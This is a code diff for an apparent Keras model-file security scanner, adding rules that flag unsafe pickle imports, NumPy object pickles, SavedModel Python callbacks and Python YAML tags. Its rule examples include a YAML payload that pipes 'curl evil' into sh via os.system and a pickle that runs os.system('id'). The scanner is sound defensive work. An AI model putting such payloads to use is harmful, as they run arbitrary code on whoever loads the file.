@@ -1,102 +1,36 @@
-"""KG1xx (config part): objects in the model config that carry or fetch code Keras runs.
+"""KG1xx: code that runs when the model is loaded: in the config, in payloads, in legacy YAML.
 
-KG101 Lambda bytecode, KG102 TorchModuleWrapper pickles, KG103 TFSMLayer external SavedModels.
-Bytecode is never unmarshalled: :mod:`kerasguard.formats.marshal_safe` lists the names it uses.
+KG101 Lambda bytecode, KG102 TorchModuleWrapper pickles, KG103 TFSMLayer external SavedModels;
+KG104 pickle imports and KG105 NumPy data unpickled on load (pickle streams walked by opcode, never
+unpickled), KG106 SavedModel graph ops that call back into Python, KG107 Python tags in legacy YAML.
+The Lambda facts (where each function is, its decoded bytecode summary) come from
+:mod:`kerasguard.formats.lambdas`; bytecode is never unmarshalled. This module only judges them.
 """
 
 from __future__ import annotations
 
 import base64
 import binascii
+import dataclasses
 from collections.abc import Iterator
-from dataclasses import dataclass
-from typing import Any
+
+from packaging.version import InvalidVersion, Version
 
 from kerasguard.findings import Severity
-from kerasguard.formats.artifact import Artifact, JsonDocument
-from kerasguard.formats.marshal_safe import MarshalSummary, summarize
-from kerasguard.rules import config_walk as cw
-from kerasguard.rules.base import Hit, Rule, RuleContext
-from kerasguard.rules.config_walk import ObjRef
+from kerasguard.formats import config_walk as cw
+from kerasguard.formats.artifact import (
+    Artifact,
+    JsonDocument,
+    PickleGlobal,
+    PickleInfo,
+)
+from kerasguard.formats.lambdas import lambda_functions
+from kerasguard.rules.base import Hit, Rule, RuleContext, allowance, capped
+from kerasguard.rules.pickle_safety import canonical, danger_reason, safe_reason
+from kerasguard.rules.tf_ops import PY_CALLBACK_OPS, group_ops, is_python_callback, op_scope
+from kerasguard.suppressions import allowlist_may_clear
 
-# Base64 text decoded per Lambda for evidence; real lambdas are a few KB.
-MAX_CODE_CHARS = 4 * 1024 * 1024
 LEGACY_H5_FORMATS = frozenset({"legacy_model", "hdf5", "h5"})
-
-
-@dataclass(frozen=True)
-class LambdaCode:
-    pointer: str  # where the code lives
-    owner: str  # what carries it, for the message
-    code: Any  # the base64 text (or whatever the config holds there)
-
-
-def decode_code(code: Any) -> bytes | None:
-    """The bytes ``python_utils.func_load`` would unmarshal: base64, or raw text when that fails."""
-    if isinstance(code, list | tuple) and code:
-        code = code[0]
-    if not isinstance(code, str):
-        return None
-    text = code[:MAX_CODE_CHARS]
-    try:
-        return binascii.a2b_base64(text.encode("ascii"))
-    except (UnicodeEncodeError, binascii.Error):
-        return text.encode("raw_unicode_escape", "replace")
-
-
-def lambda_codes(ref: ObjRef, owner: ObjRef | None = None) -> Iterator[LambdaCode]:
-    """Bytecode carried by ``ref``: a Keras 3 ``__lambda__`` or a Keras 2 Lambda config.
-
-    ``owner`` is the object holding a ``__lambda__`` (its layer), named in the message.
-    """
-    cfg = ref.config
-    if ref.kind == "lambda":
-        inner = cfg if isinstance(cfg, dict) else {}
-        code = inner.get("code", inner.get("value"))
-        key = ref.pointer.rsplit("/", 1)[-1]
-        where = f"{owner.class_name} {owner.layer_name or ''!r} {key}" if owner else "object"
-        yield LambdaCode(ref.pointer, f"{where} (__lambda__)", code)
-        return
-    if ref.kind != "class" or not isinstance(cfg, dict):
-        return
-    name = ref.layer_name or ref.class_name
-    function = unwrap_tuple(cfg.get("function"))
-    if isinstance(function, list) or (isinstance(function, str) and cfg.get("function_type") == "lambda"):
-        yield LambdaCode(f"{ref.pointer}/config/function", f"{ref.class_name} {name!r} function", function)
-    elif is_lambda_layer(ref) and not _judged_elsewhere(function, cfg.get("function_type")):
-        # A function in an encoding this scanner does not know: Keras may still decode it. Code.
-        yield LambdaCode(f"{ref.pointer}/config/function", f"{ref.class_name} {name!r} function", function)
-    output_shape = unwrap_tuple(cfg.get("output_shape"))
-    if cfg.get("output_shape_type") == "lambda" and isinstance(output_shape, list | str):
-        yield LambdaCode(
-            f"{ref.pointer}/config/output_shape", f"{ref.class_name} {name!r} output_shape", output_shape
-        )
-
-
-def unwrap_tuple(value: Any) -> Any:
-    """tf.keras 2.x metadata writes tuples as ``{"class_name": "__tuple__", "items": [...]}``."""
-    if (
-        isinstance(value, dict)
-        and value.get("class_name") == "__tuple__"
-        and isinstance(value.get("items"), list)
-    ):
-        return value["items"]
-    return value
-
-
-def is_lambda_layer(ref: ObjRef) -> bool:
-    """A Lambda layer of any Keras (``Lambda``, ``keras.layers.Lambda``, a registered ``pkg>Lambda``)."""
-    return ref.class_name.rsplit(">", 1)[-1].rsplit(".", 1)[-1] == "Lambda"
-
-
-def _judged_elsewhere(function: Any, function_type: Any) -> bool:
-    """Lambda functions other rules judge: a named function (Keras 2 ``function_type: function``, KG2xx),
-    a Keras 3 reference or ``__lambda__`` (a ref of its own), a raw value that is not code, or none."""
-    if function is None:
-        return True
-    if isinstance(function, str):
-        return function_type in ("function", "raw", None)
-    return cw.as_ref(function) is not None
 
 
 def is_legacy_h5(art: Artifact, doc: JsonDocument) -> bool:
@@ -112,33 +46,26 @@ def is_legacy_h5(art: Artifact, doc: JsonDocument) -> bool:
 
 
 def check_kg101(art: Artifact, ctx: RuleContext) -> Iterator[Hit]:
-    for doc, ref in cw.refs(art):
-        owner = cw.index(doc).enclosing(ref.pointer) if ref.kind == "lambda" else None
-        for found in lambda_codes(ref, owner):
-            data = decode_code(found.code)
-            summary = summarize(data) if data else MarshalSummary(layout=None, problem="no code string")
-            cves = ("CVE-2025-9905",) if is_legacy_h5(art, doc) else ()
-            carries = (
-                "carries Python bytecode"
-                if data
-                else "holds a function in an encoding this scanner cannot decode, so it is treated as code "
-                f"({type(found.code).__name__}); Python bytecode"
-            )
-            yield Hit(
-                cw.at(doc, found.pointer),
-                f"{found.owner} {carries} that runs when the model is loaded with "
-                "safe_mode=False, by Keras < 2.13, by legacy .h5 loading before 3.11.3, by tf-keras, or by "
-                f"direct from_config calls before 3.12.3/3.15.0 ({_size(data)})",
-                evidence=summary.describe(),
-                cves=cves,
-            )
+    for fn in lambda_functions(art):
+        cves = ("CVE-2025-9905",) if is_legacy_h5(art, fn.document) else ()
+        carries = (
+            "carries Python bytecode"
+            if fn.code_bytes
+            else "holds a function in an encoding this scanner cannot decode, so it is treated as code "
+            f"({fn.code_type}); Python bytecode"
+        )
+        yield Hit(
+            cw.at(fn.document, fn.pointer),
+            f"{fn.owner} {carries} that runs when the model is loaded with "
+            "safe_mode=False, by Keras < 2.13, by legacy .h5 loading before 3.11.3, by tf-keras, or by "
+            f"direct from_config calls before 3.12.3/3.15.0 ({_size(fn.code_bytes)})",
+            evidence=fn.summary.describe(),
+            cves=cves,
+        )
 
 
-def _size(data: bytes | None) -> str:
-    return "no decodable code" if not data else f"{len(data)} bytes of marshal data"
-
-
-# --- KG102 -----------------------------------------------------------------------------------------
+def _size(code_bytes: int) -> str:
+    return "no decodable code" if not code_bytes else f"{code_bytes} bytes of marshal data"
 
 
 def describe_payload(text: str) -> str:
@@ -206,6 +133,145 @@ def check_kg103(art: Artifact, ctx: RuleContext) -> Iterator[Hit]:
             )
 
 
+def _check_kg107(art: Artifact, ctx: RuleContext) -> Iterator[Hit]:
+    hits = [
+        Hit(
+            tag.location,
+            f"YAML tag {tag.tag!r} on line {tag.line}: an unsafe YAML loader imports or calls the named "
+            "Python object while reading the file",
+            evidence=tag.raw,
+        )
+        for tag in art.yaml_tags
+        if tag.is_python
+    ]
+    yield from capped(hits, art.location, "Python YAML tags")
+
+
+PICKLE_GLOBALS_RULE, PICKLE_GLOBALS_SEVERITY = "KG104", Severity.CRITICAL  # check_pickle_globals's rule
+
+
+KERAS_NPZ_PICKLE_FIXED = Version("3.9.0")  # 57c94f305c: NpzIOStore stopped using allow_pickle=True
+
+
+def keras_older_than(ctx: RuleContext, fixed: Version) -> bool:
+    """Whether the Keras that will load the file predates ``fixed``; unknown counts as older."""
+    if ctx.keras_version is None:
+        return True
+    try:
+        return Version(ctx.keras_version) < fixed
+    except InvalidVersion:
+        return True
+
+
+def _where(info: PickleInfo) -> str:
+    return "the object array's pickled data" if info.role == "npy_object" else "the pickle"
+
+
+def _pickle_hit(info: PickleInfo, glob: PickleGlobal, full: str, count: int) -> Hit:
+    where = _where(info)
+    times = f" ({count} times)" if count > 1 else ""
+    evidence = f"{glob.opcode} at byte {glob.position}: {full}{times}"
+    if not glob.resolved:
+        return Hit(
+            info.location,
+            f"{where} builds an import from values computed while unpickling ({glob.opcode} operands "
+            f"{glob.module!r}, {glob.name!r} are not constants): what it imports cannot be known "
+            "before it runs",
+            evidence,
+        )
+    reason = danger_reason(full)
+    if reason is not None:
+        message = f"{where} imports {full}, which {reason}; unpickling can call it with chosen arguments"
+    else:
+        message = (
+            f"{where} imports {full}, which is not on the safe list of data-rebuilding functions; "
+            "unpickling imports it and can call it"
+        )
+    return Hit(info.location, message, evidence)
+
+
+def check_pickle_globals(art: Artifact, ctx: RuleContext) -> Iterator[Hit]:
+    allow = ctx.policy.allow
+    for info in art.pickles:
+        # one finding per distinct import (and one for all unresolved ones), with a count
+        seen: dict[str, tuple[PickleGlobal, int]] = {}
+        for glob in info.globals:
+            full = canonical(glob.module, glob.name) if glob.resolved else ""
+            if glob.resolved and safe_reason(full):
+                continue
+            first, count = seen.get(full, (glob, 0))
+            seen[full] = (first, count + 1)
+        for full, (glob, count) in seen.items():
+            hit = _pickle_hit(info, glob, full, count)
+            if _keras_own_npz_pickle(info, full, ctx):
+                hit = Hit(
+                    hit.location,
+                    hit.message + "; the Keras that will load this file reads npz weights with "
+                    "allow_pickle=False, so only other numpy.load(allow_pickle=True) readers would run it",
+                    hit.evidence,
+                    severity=Severity.MEDIUM,
+                )
+            entry = allow.allows("pickle_globals", full) if full else None
+            if entry is not None:
+                # Recorded, never silent: cleared (and shown as allowed) or, for a found policy and a
+                # high or critical import, kept (decision 37).
+                severity = hit.severity or PICKLE_GLOBALS_SEVERITY
+                applied = allowlist_may_clear(ctx.policy, PICKLE_GLOBALS_RULE, severity)
+                hit = dataclasses.replace(hit, allowance=allowance(ctx.policy, entry, applied))
+            yield hit
+
+
+# What Keras itself pickles into object arrays when it saves npz weights (variables, jax arrays).
+KERAS_NPZ_PICKLE_PACKAGES = ("keras", "jax")
+
+
+def _keras_own_npz_pickle(info: PickleInfo, full: str, ctx: RuleContext) -> bool:
+    """An object-array pickle of the kind Keras writes, judged for a Keras (>= 3.9) that refuses to load it.
+
+    Anything else (os, subprocess, builtins, unresolved imports) keeps its full severity.
+    """
+    return (
+        info.role == "npy_object"
+        and full.split(".", 1)[0] in KERAS_NPZ_PICKLE_PACKAGES
+        and not keras_older_than(ctx, KERAS_NPZ_PICKLE_FIXED)
+    )
+
+
+def check_numpy_pickles(art: Artifact, ctx: RuleContext) -> Iterator[Hit]:
+    # Keras >= 3.9 loads npz weights with allow_pickle=False: the pickle then only endangers other readers.
+    severity = Severity.CRITICAL if keras_older_than(ctx, KERAS_NPZ_PICKLE_FIXED) else Severity.MEDIUM
+    for npy in art.npy_arrays:
+        if npy.has_object:
+            yield Hit(
+                npy.location,
+                f"object-dtype array (descr {npy.descr}): its data is a pickle that "
+                "numpy.load(allow_pickle=True) unpickles, as Keras 3.0-3.8 does for model.weights.npz",
+                f"descr={npy.descr} shape={npy.shape}",
+                severity=severity,
+            )
+    for info in art.pickles:
+        if info.role == "pickle" and info.name.lower().endswith((".npz", ".npy")):
+            yield Hit(
+                info.location,
+                f"{info.name} is neither a zip nor an .npy but a raw pickle: numpy.load(allow_pickle=True) "
+                "unpickles it, as Keras 3.0-3.8 does for model.weights.npz",
+                f"pickle protocol {info.protocol}, {len(info.globals)} imports, {info.calls} calls",
+                severity=severity,
+            )
+
+
+def check_python_callback_ops(art: Artifact, ctx: RuleContext) -> Iterator[Hit]:
+    found = ((op, PY_CALLBACK_OPS.get(op.op, "a Python callback op")) for op in art.graph_ops)
+    for op, api, count in group_ops((op, api) for op, api in found if is_python_callback(op.op)):
+        tokens = [v for k, v in op.attrs if k == "token"]
+        yield Hit(
+            op.location,
+            f"graph op {op.op} ({api}) in {op_scope(op, count)} calls back into Python in the loading "
+            "process",
+            f"node={op.node}" + (f" token={tokens[0]}" if tokens else ""),
+        )
+
+
 RULES: tuple[Rule, ...] = (
     Rule(
         id="KG101",
@@ -261,5 +327,105 @@ RULES: tuple[Rule, ...] = (
         ),
         remediation="Do not load the file. Ship the SavedModel's layers in the model itself.",
         check=check_kg103,
+    ),
+    Rule(
+        id="KG107",
+        name="yaml-python-tag",
+        title="Legacy YAML config with Python object tags",
+        severity=Severity.CRITICAL,
+        cwe="CWE-502",
+        cves=("CVE-2021-37678",),
+        rationale=(
+            "Legacy Keras YAML configs were read with `yaml.unsafe_load` (TensorFlow < 2.3.4, 2.4.x < "
+            "2.4.3, 2.5.0: CVE-2021-37678). YAML tags under `tag:yaml.org,2002:python/` "
+            "(`!!python/object/apply`, `!!python/name`, `!!python/module`, `!!python/object/new`...) make "
+            "such a loader import modules and call functions while it builds the document, before any "
+            "model exists: arbitrary code execution. Keras never writes these tags. Critical because "
+            "the payload runs on read. Tags are found by text search with %TAG handles and %-escapes "
+            "resolved, never by running a YAML loader."
+        ),
+        remediation=(
+            "Do not load the file. Legacy YAML configs are not supported by Keras 3; rebuild the model "
+            "from trusted code or a `.keras` file. If YAML must be read, use `yaml.safe_load` only."
+        ),
+        example='`class_name: !!python/object/apply:os.system ["curl evil | sh"]`',
+        references=(
+            "https://github.com/advisories/GHSA-r6jx-9g48-2r5r",
+            "https://pyyaml.org/wiki/PyYAMLDocumentation",
+        ),
+        check=_check_kg107,
+    ),
+    Rule(
+        id="KG104",
+        name="pickle-unsafe-import",
+        title="Pickle imports a callable outside the safe list",
+        severity=Severity.CRITICAL,
+        cwe="CWE-502",
+        rationale=(
+            "Unpickling runs code: GLOBAL, INST and STACK_GLOBAL import any name, and REDUCE, BUILD and "
+            "NEWOBJ call it with arguments from the file. A pickle that only rebuilds data needs a handful "
+            "of names (numpy array and dtype reconstruction, built-in containers, collections.OrderedDict, "
+            "torch tensor rebuild functions and storages). Any other import, such as os.system, "
+            "subprocess, builtins.eval or getattr, runpy or importlib, lets the file run commands when it "
+            "is loaded. An import whose module or name is computed while unpickling cannot be checked "
+            "statically and is treated the same way. kerasguard walks the opcodes and never unpickles."
+        ),
+        remediation=(
+            "Do not load the file. Re-export the weights in a format without code (.keras with "
+            "model.weights.h5, safetensors). If a specific import is legitimate for your pipeline, add it "
+            "to [tool.kerasguard.allow] pickle_globals with a reason."
+        ),
+        check=check_pickle_globals,
+        example=(
+            "`cos\\nsystem\\n(S'id'\\ntR.`: a protocol 0 pickle that runs `os.system('id')` when loaded."
+        ),
+        references=(
+            "https://docs.python.org/3/library/pickle.html#restricting-globals",
+            "https://github.com/trailofbits/fickling",
+        ),
+    ),
+    Rule(
+        id="KG105",
+        name="numpy-pickle",
+        title="NumPy data that is unpickled on load",
+        severity=Severity.CRITICAL,
+        cwe="CWE-502",
+        rationale=(
+            "An object-dtype .npy stores its data as a pickle, and numpy.load treats any file that is "
+            "neither a zip nor an .npy as a pickle. Keras 3.0-3.8 loads model.weights.npz with "
+            "numpy.load(allow_pickle=True), so such a member runs code at load time even with "
+            "safe_mode=True (no CVE; modelscan PR #262). Keras never writes object arrays into weights. "
+            "Critical when the Keras that will load the file is older than 3.9 (or unknown); high "
+            "otherwise, because any other tool that loads it with allow_pickle=True is exposed."
+        ),
+        remediation=(
+            "Do not load the file. Upgrade Keras to 3.9 or later, and re-save the weights from a trusted "
+            "model as model.weights.h5."
+        ),
+        check=check_numpy_pickles,
+        references=(
+            "https://github.com/protectai/modelscan/pull/262",
+            "https://github.com/keras-team/keras/commit/57c94f305c",
+            "https://numpy.org/doc/stable/reference/generated/numpy.load.html",
+        ),
+    ),
+    Rule(
+        id="KG106",
+        name="savedmodel-python-callback",
+        title="SavedModel graph calls back into Python",
+        severity=Severity.CRITICAL,
+        cwe="CWE-94",
+        rationale=(
+            "PyFunc, PyFuncStateless and EagerPyFunc (tf.numpy_function, tf.py_func, tf.py_function) run a "
+            "Python callable of the loading process, chosen by a token in the graph, with tensors from the "
+            "model. The code itself is not in the file, so what runs depends on what the loading process "
+            "registered; a model that needs it cannot be verified and is not portable."
+        ),
+        remediation=(
+            "Do not serve the model. Ask the publisher for a graph without Python callbacks, or run it only "
+            "inside a sandbox with no network and no secrets."
+        ),
+        check=check_python_callback_ops,
+        references=("https://www.tensorflow.org/api_docs/python/tf/py_function",),
     ),
 )
